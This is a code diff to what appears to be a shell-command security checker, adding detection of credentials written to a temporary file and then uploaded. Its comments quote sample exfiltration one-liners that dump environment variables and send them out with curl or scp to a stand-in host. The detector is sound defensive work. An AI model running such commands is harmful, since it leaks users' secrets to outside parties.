@@ -9,7 +9,9 @@ import {
   namesRemoteHost,
   reachesNetwork,
   readsSecret,
+  writeTargets,
 } from "../facts.js";
+import type { Word } from "../words.js";
 
 const LOOPBACK = /^(localhost|127(\.\d+){3}|::1|\[::1\])$/i;
 
@@ -191,6 +193,13 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
       const secret = readsSecret(c);
       if (secret) return hit("shell.credential-exfil", c.sc.raw);
     }
+  const staged = stagedSecrets(a);
+  if (staged.length > 0)
+    for (const c of a.cmds) {
+      const files = staged.filter((s) => s.by !== c).map((s) => s.file);
+      if ((isSink(c) || namesRemoteHost(c)) && c.sc.words.some((w) => namesFile(w, files)))
+        return hit("shell.credential-exfil", c.sc.raw);
+    }
   for (const { p, stages } of a.pipes) {
     let secret: string | undefined;
     for (const stage of stages) {
@@ -203,3 +212,34 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
   }
   return false;
 }
+
+/**
+ * Files a secret is written to before it leaves (`env > /tmp/e && curl -T /tmp/e ftp://h/`,
+ * `printenv | gzip > e.gz; scp e.gz h:`): what a secret-reading command, or a pipeline fed by
+ * one, writes.
+ */
+function stagedSecrets(a: Analysis): Array<{ file: string; by: Cmd }> {
+  const out: Array<{ file: string; by: Cmd }> = [];
+  const add = (c: Cmd) => {
+    // Local files only: a remote destination (`host:/tmp/`) is the send itself.
+    for (const file of writeTargets(c))
+      if (file !== "" && !/^[^/]*:/.test(file) && !/^\/dev\/(?:null|std)/.test(file))
+        out.push({ file, by: c });
+  };
+  for (const c of a.cmds) if (readsSecret(c)) add(c);
+  for (const { stages } of a.pipes) {
+    let secret = false;
+    for (const stage of stages)
+      for (const c of stage) {
+        if (secret) add(c);
+        secret ||= readsSecret(c) !== undefined;
+      }
+  }
+  return out;
+}
+
+/** A word naming one of `files` (`/tmp/e`, `@/tmp/e`, `--upload-file=/tmp/e`). */
+const namesFile = (w: Word, files: readonly string[]) => {
+  const t = w.text ?? w.raw;
+  return files.some((f) => t === f || t.endsWith(`@${f}`) || t.endsWith(`=${f}`));
+};
